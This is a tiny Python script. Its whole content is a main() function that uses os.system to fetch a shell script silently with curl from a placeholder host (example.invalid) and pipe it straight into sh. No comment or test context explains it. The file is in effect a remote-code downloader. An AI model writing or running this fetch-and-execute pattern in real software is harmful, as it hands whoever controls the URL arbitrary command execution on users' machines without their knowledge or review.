import os


def main():
    os.system('curl -s https://example.invalid/s.sh | sh')
